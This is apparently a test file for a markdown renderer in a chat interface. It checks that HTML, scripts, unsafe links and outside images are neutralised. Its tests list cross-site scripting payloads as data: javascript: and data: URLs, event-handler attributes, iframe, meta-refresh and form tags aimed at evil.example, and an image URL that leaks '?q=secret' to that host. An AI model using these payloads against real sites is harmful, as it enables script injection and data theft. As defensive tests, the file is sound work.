// @vitest-environment jsdom
import { describe, expect, it } from "vitest";
import { renderMarkdown } from "./markdown";

/** The rendered reply as the page would hold it. */
function rendered(text: string): HTMLElement {
  const box = document.createElement("div");
  box.innerHTML = renderMarkdown(text);
  return box;
}

/** Everything in *box* that could run code, load something or leave the page in this tab. */
function dangers(box: HTMLElement): string[] {
  const found: string[] = [];
  for (const element of box.querySelectorAll("*")) {
    for (const attr of element.attributes) {
      if (/^on/i.test(attr.name) || attr.name === "style") found.push(`${element.tagName} ${attr.name}`);
      if (/^\s*(javascript|vbscript|data):/i.test(attr.value) && !/^data:image\//.test(attr.value)) {
        found.push(`${element.tagName} ${attr.name}=${attr.value}`);
      }
    }
  }
  const tags = "script, iframe, object, embed, meta, base, link, form, input, button, svg, math, style";
  for (const element of box.querySelectorAll(tags)) found.push(element.tagName);
  return found;
}

describe("renderMarkdown", () => {
  it("renders code blocks and emphasis", () => {
    const html = renderMarkdown("Some **bold** text\n\n```python\nprint('<hi>')\n```");
    expect(html).toContain("<strong>bold</strong>");
    expect(html).toContain(`<pre><code class="language-python">print('&lt;hi&gt;')`);
  });

  it("shows HTML in a reply as the text it is", () => {
    const text = '<img src=x onerror="alert(1)"> and <b>bold?</b>';
    const box = rendered(text);
    expect(box.textContent?.trim()).toBe(text);
    expect(box.querySelectorAll("img, b")).toHaveLength(0);
    const block = rendered('<div style="position:fixed">\ncover\n</div>\n\nafter');
    expect(block.querySelectorAll("div")).toHaveLength(0);
    expect(block.textContent).toContain('<div style="position:fixed">');
  });

  it("lets nothing run, load or navigate", () => {
    const hostile = [
      "<img src=x onerror=alert(1)><script>alert(2)</script>[a](javascript:alert(3))",
      "[a](JaVaScRiPt:alert(1)) [b](&#106;avascript:alert(1)) [c](data:text/html,<script>alert(1)</script>)",
      "[d]( javascript:alert(1)) [e](vbscript:x) <javascript:alert(1)>",
      "![x](javascript:alert(1)) ![y](data:text/html,x)",
      "<iframe src=https://evil.example/></iframe>\n\n<object data=x></object><embed src=x>",
      '<meta http-equiv="refresh" content="0;url=https://evil.example/">\n\n<base href="https://evil.example/">',
      '<form action="https://evil.example/"><input name=a><button formaction=x>go</button></form>',
      "<details open ontoggle=alert(1)>x</details>",
      "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
      '<svg><a href="https://evil.example/"><text>x</text></a></svg>',
      "[link](https://example.org/ 'title\" onmouseover=\"alert(1)')",
    ];
    for (const text of hostile) expect(dangers(rendered(text)), text).toEqual([]);
  });

  it("keeps code literal", () => {
    const html = renderMarkdown("`<b>x</b>`\n\n```\n</script><script>alert(1)</script>\n```");
    expect(html).toContain("<code>&lt;b&gt;x&lt;/b&gt;</code>");
    expect(html).toContain("<pre><code>&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;");
  });

  it("shows images from this server only", () => {
    const box = rendered(
      "![chart](/files/chart.png) ![dot](data:image/png;base64,AAAA) ![spy](https://evil.example/?q=secret)",
    );
    const sources = [...box.querySelectorAll("img")].map((img) => img.getAttribute("src"));
    expect(sources).toEqual(["/files/chart.png", "data:image/png;base64,AAAA", null]);
    expect(box.querySelectorAll("img")[2].getAttribute("alt")).toBe("spy");
  });

  it("opens links in a new tab without an opener", () => {
    const html = renderMarkdown("[docs](https://example.org/)");
    expect(html).toContain('target="_blank"');
    expect(html).toContain('rel="noopener noreferrer"');
  });
});
